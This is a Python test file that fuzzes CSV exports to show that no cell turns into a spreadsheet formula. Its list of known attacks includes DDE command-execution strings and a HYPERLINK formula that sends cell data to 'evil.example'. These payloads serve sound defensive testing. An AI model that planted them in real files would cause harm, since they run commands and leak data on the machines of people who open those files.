"""No cell of an exported file is a formula in any spreadsheet program, and nothing else of it is changed."""

import csv
import json
from collections.abc import Callable, Sequence
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from signoff.imports.files.csv import Row
from signoff.imports.files.rejected import RejectedRow, RejectedRowsFile
from signoff.web.spreadsheet import safe_cell
from tests.datafiles import needed
from tests.proof.formula_checker import is_formula

PER_FILE = 20
SIGNS = st.sampled_from("=+-@|%＝＋－＠｜％﹢﹣﹦﹪﹫⁼₊⁺⁻₋")
UNSEEN = st.text(
    st.sampled_from("\t\r\n\x0b\x0c \x00\x08\x1b\x7f\x85\xa0\xad\u034f\u061c\u115f\u1160\u180e\u200b\u200d\u200f\u2028"
                    "\u202e\u2060\u2064\u2066\u2800\u3000\u3164\ufe0f\ufeff\uffa0\ufff9\U000e0001\U000e0020\u0301\u20dd"),
    max_size=5,
)  # fmt: skip
TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=30)
KNOWN = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\"&A1)", "@SUM(1)*cmd|' /C calc'!A0", "-2+cmd|' /C calc'!A0",
    "+1", "-5.00", "\t=1", "\r\n=1", "\ufeff=1", "＝1+1", "\u200b＋1", "|calc", "%0A=1", "'=1", '"=1', ",=1", "a\n=1",
)  # fmt: skip
CELLS = st.one_of(
    st.builds("{}{}{}".format, UNSEEN, SIGNS, TEXT),
    st.builds("{}{}".format, UNSEEN, st.sampled_from(KNOWN)),
    st.builds("{}{}".format, TEXT, st.sampled_from(KNOWN)),
    TEXT,
)
FILES = st.lists(CELLS, min_size=PER_FILE, max_size=PER_FILE)
type Writer = Callable[[Sequence[str], Path], None]


def by_the_house(cells: Sequence[str], path: Path) -> None:
    """As an import lists a refused row."""
    file = RejectedRowsFile(path, fallback=path.parent, header=["code"] * len(cells))
    file.add(RejectedRow(Row(2, list(cells)), "code", "Look at it."))
    file.close()


def by_csv_alone(cells: Sequence[str], path: Path) -> None:
    """The negative control."""
    out = StringIO()
    csv.writer(out).writerows([["line", "column", "sentence"], ["2", "code", "Look at it.", *cells]])
    path.write_text(out.getvalue(), encoding="utf-8", newline="")


def read(path: Path) -> list[str]:
    """The cells of the row, as a spreadsheet gets them."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))[1][3:]


def formulas(write: Writer, path: Path, files: int) -> tuple[int, int]:
    """Write that many files of fuzzed cells; returns how many cells those were and how many of them are formulas."""
    written = found = 0

    @settings(max_examples=files, deadline=None, database=None, suppress_health_check=list(HealthCheck))
    @given(FILES)
    def one_file(cells: list[str]) -> None:
        nonlocal written, found
        write(cells, path)
        back = read(path)
        assert [cell.removeprefix("'") for cell in back] == [cell.removeprefix("'") for cell in cells]
        assert [cell in (typed, f"'{typed}") for cell, typed in zip(back, cells, strict=True)] == [True] * PER_FILE
        written += len(back)
        found += sum(map(is_formula, back))

    one_file()
    return written, found


def test_no_cell_of_a_file_is_a_formula(
    tmp_path: Path, size: Callable[[int, int], int], figure: Callable[..., None]
) -> None:
    written, found = formulas(by_the_house, tmp_path / "refused.csv", size(50, 1000))
    figure("exports", "fuzzed cells written and read again", written, "", f"≥ {size(1000, 20_000)}")
    figure("exports", "cells that a spreadsheet takes for a formula", found, "", "= 0")


def test_the_judge_finds_them_in_a_file_by_csv_alone(tmp_path: Path) -> None:
    assert formulas(by_csv_alone, tmp_path / "plain.csv", 20)[1] > 100


@pytest.mark.parametrize("cell", KNOWN)
def test_known_attacks_are_text(cell: str) -> None:
    assert not is_formula(safe_cell(cell))


def test_naughty_strings_are_text() -> None:
    for text in json.loads(needed("text/blns.json").read_text()):
        assert not is_formula(safe_cell(text))


def test_words_stay_as_they_are() -> None:
    for text in ("Anna Schmidt", "王小明", "𠮷野家", "a=b", "1-2", "'quoted", "", "  spaced", "#1", "é"):
        assert safe_cell(text) == text
